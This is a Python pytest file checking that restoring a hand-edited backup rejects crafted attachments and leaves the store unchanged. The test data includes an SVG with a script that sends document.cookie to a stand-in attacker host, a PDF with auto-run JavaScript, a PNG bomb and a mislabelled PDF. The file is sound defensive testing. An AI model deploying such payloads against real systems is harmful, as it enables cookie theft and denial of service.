"""Attack: a crafted backup plants an attachment the upload would have refused (second attack pass).

A backup carries every signed report's bytes and media type. A restore copied them as they were, so
a backup edited by hand brought back a PDF with a script (past the inspector), "image/svg+xml" bytes
(drawn by the review page with ``st.image``: a traceback) or an image bomb (decoded by Streamlit in
the server process on every view of the review page). Now every attachment of a backup meets the
upload's rules before anything is replaced; a normal backup with a PDF and a photo restores as before."""

from __future__ import annotations

import sqlite3

import pytest

from gender_targets import intake
from gender_targets.attachments import check_attachment
from gender_targets.backup import BackupError, make_backup, restore_backup
from gender_targets.store import open_store
from tests.store_workers import fake_check_file, make_register
from tests.test_attachments import ADMIN, TODAY, pdf_report, photo, png_bomb, quarter, with_catalog

SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("//evil.example/?"+document.cookie)</script></svg>'


@pytest.fixture(scope="module")
def backup_file(tmp_path_factory) -> bytes:
    """The SQLite backup of a database with a PDF and a photo attached (made once)."""
    where = tmp_path_factory.mktemp("attached")
    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(intake, "check_file", fake_check_file)
        store = open_store(str(where / "live.db"))
        store.save_register(make_register(4), by="setup")
        for unit, seed, att in (
            ("U00", 0, check_attachment(pdf_report(), "a.pdf")),
            ("U01", 1, check_attachment(photo(), "b.jpg")),
        ):
            assert intake.import_upload(store, quarter(unit, seed), "q.csv", today=TODAY, attachment=att).ok
        data = make_backup(store, archive=False)
        store.close()
    return data


@pytest.fixture
def backed_up(backup_file, tmp_path):
    """The backup as a file the attacker may edit, and a fresh store to restore it into."""
    path = tmp_path / "backup.db"
    path.write_bytes(backup_file)
    target = open_store(str(tmp_path / "target.db"))
    yield path, target
    target.close()


@pytest.mark.parametrize(
    ("media_type", "data"),
    [
        ("application/pdf", with_catalog(pdf_report(), b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")),
        ("image/svg+xml", SVG),
        ("image/png", png_bomb()),
        ("image/jpeg", pdf_report()),  # a PDF said to be a picture
    ],
    ids=["pdf-with-script", "svg-with-script", "png-bomb", "pdf-said-jpeg"],
)
def test_a_crafted_attachment_in_a_backup_is_refused_and_nothing_is_replaced(backed_up, media_type, data):
    path, target = backed_up
    with sqlite3.connect(path) as db:  # the attacker's edit
        db.execute(
            "UPDATE attachment_files SET data = ?, media_type = ? WHERE media_type = 'application/pdf'",
            (data, media_type),
        )
    before = target.submission_log()
    with pytest.raises(BackupError) as exc:
        restore_backup(target, path.read_bytes(), ADMIN)
    assert exc.value.code == "backup_bad_value" and "attachment_files" in str(exc.value.params)
    assert target.submission_log().equals(before)


def test_a_backup_with_a_scan_and_a_photo_restores(backed_up):
    path, target = backed_up
    restore_backup(target, path.read_bytes(), ADMIN)
    kinds = sorted(target.attachment(int(i)).media_type for i in target.submission_log()["id"])
    assert kinds == ["application/pdf", "image/jpeg"]
